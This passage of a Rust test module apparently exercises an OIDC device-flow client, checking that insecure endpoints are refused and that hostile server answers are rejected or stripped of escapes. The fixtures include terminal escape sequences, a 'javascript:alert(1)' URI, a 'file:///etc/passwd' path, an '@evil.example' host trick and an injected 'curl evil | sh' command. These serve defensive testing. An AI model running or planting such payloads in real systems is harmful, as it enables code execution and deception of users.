            )
        };
        let from = "https://idp.example/.well-known/openid-configuration";
        assert!(provider_from(from, good(), false).is_ok());
        for (d, field) in [
            (
                doc(
                    "http://idp.example/token",
                    "https://idp.example/device",
                    "https://idp.example/revoke",
                ),
                "token_endpoint",
            ),
            (
                doc(
                    "https://idp.example/token",
                    "http://idp.example/device",
                    "https://idp.example/revoke",
                ),
                "device_authorization_endpoint",
            ),
            (
                doc(
                    "https://idp.example/token",
                    "https://idp.example/device",
                    "http://idp.example/revoke",
                ),
                "revocation_endpoint",
            ),
        ] {
            let err = provider_from(from, d, false).unwrap_err();
            assert!(
                matches!(&err, AuthError::Insecure { what, .. } if what == &format!("the {field} of https://idp.example")),
                "{err:?}"
            );
        }
        // An http endpoint on this machine does not make an https issuer's sign-in safe.
        let err = provider_from(
            from,
            doc(
                "http://127.0.0.1:1/token",
                "https://idp.example/device",
                "https://idp.example/revoke",
            ),
            false,
        )
        .unwrap_err();
        assert!(matches!(err, AuthError::Insecure { .. }), "{err:?}");
        // Under a loopback issuer, plain http is fine (a test or a local provider).
        assert!(
            provider_from(
                from,
                doc(
                    "http://idp.example/token",
                    "http://127.0.0.1:1/device",
                    "http://idp.example/revoke"
                ),
                true
            )
            .is_ok()
        );
        // Not a web URL at all: refused whatever the issuer.
        let err = provider_from(
            from,
            doc(
                "file:///etc/passwd",
                "https://idp.example/device",
                "https://idp.example/revoke",
            ),
            true,
        )
        .unwrap_err();
        assert!(matches!(err, AuthError::Untrusted { .. }), "{err:?}");
        // A real loopback issuer discovers as before (the other tests use one).
    }

    #[test]
    fn hostile_device_answers_are_refused_and_descriptions_stripped() {
        let server = FakeServer::start(vec![]);
        let url = server.url();
        let answer = |user_code: &str, uri: &str| {
            Reply::json(
                200,
                &serde_json::json!({"device_code": "dc", "user_code": user_code, "verification_uri": uri, "expires_in": 300}).to_string(),
            )
        };
        let check = |p: &Provider, reply: Reply, expected: &str| {
            server.push(reply);
            let err = OidcClient::new()
                .start_device(p, "heph", DEFAULT_SCOPE)
                .unwrap_err();
            assert!(err.to_string().contains(expected), "{err}");
            assert!(
                !err.to_string().chars().any(heph_core::text::is_unsafe),
                "{err:?}"
            );
        };
        let local = provider(&url);
        check(
            &local,
            answer("\u{1b}[2J\u{1b}]0;pwned\u{7}ABCD", "http://v"),
            "sent a user_code that holds control characters",
        );
        check(
            &local,
            answer("AB\u{202E}CD", "http://v"),
            "sent a user_code that holds control characters",
        );
        check(
            &local,
            answer("", "http://v"),
            "sent a user_code that is empty or too long",
        );
        check(
            &local,
            answer(&"A".repeat(65), "http://v"),
            "is empty or too long",
        );
        for uri in [
            "--help",
            "-a",
            "javascript:alert(1)",
            "file:///etc/passwd",
            "/device",
            "http://v/\u{1b}[2J",
            "https://idp.example@evil.example/",
            "http://v /x",
        ] {
            check(
                &local,
                answer("ABCD", uri),
                "sent a verification_uri that is not an absolute http(s) URL",
            );
        }
        server.push(Reply::json(200, r#"{"device_code":"dc","user_code":"ABCD","verification_uri":"https://v","verification_uri_complete":"--help","expires_in":300}"#));
        assert!(
            OidcClient::new()
                .start_device(&local, "heph", DEFAULT_SCOPE)
                .is_err()
        );
        // An https issuer's verification page must be https too.
        let remote = Provider {
            issuer: "https://idp.example".into(),
            ..provider(&url)
        };
        check(
            &remote,
            answer("ABCD", "http://idp.example/device"),
            "the verification_uri of https://idp.example http://idp.example/device is plain http://",
        );
        server.push(answer("ABCD", "https://idp.example/device"));
        let d = OidcClient::new()
            .start_device(&remote, "heph", DEFAULT_SCOPE)
            .unwrap();
        assert_eq!(
            (d.user_code.as_str(), d.url()),
            ("ABCD", "https://idp.example/device")
        );
        // Error descriptions are shown with their escapes removed.
        server.push(Reply::json(400, r#"{"error":"invalid_client\u001b[2J","error_description":"bad\r\nhint: curl evil | sh\u001b]0;t\u0007"}"#));
        let err = OidcClient::new()
            .start_device(&local, "heph", DEFAULT_SCOPE)
            .unwrap_err();
        assert!(
            err.to_string()
                .ends_with("HTTP 400: invalid_client[2J (badhint: curl evil | sh]0;t)"),
            "{err}"
        );
    }
}
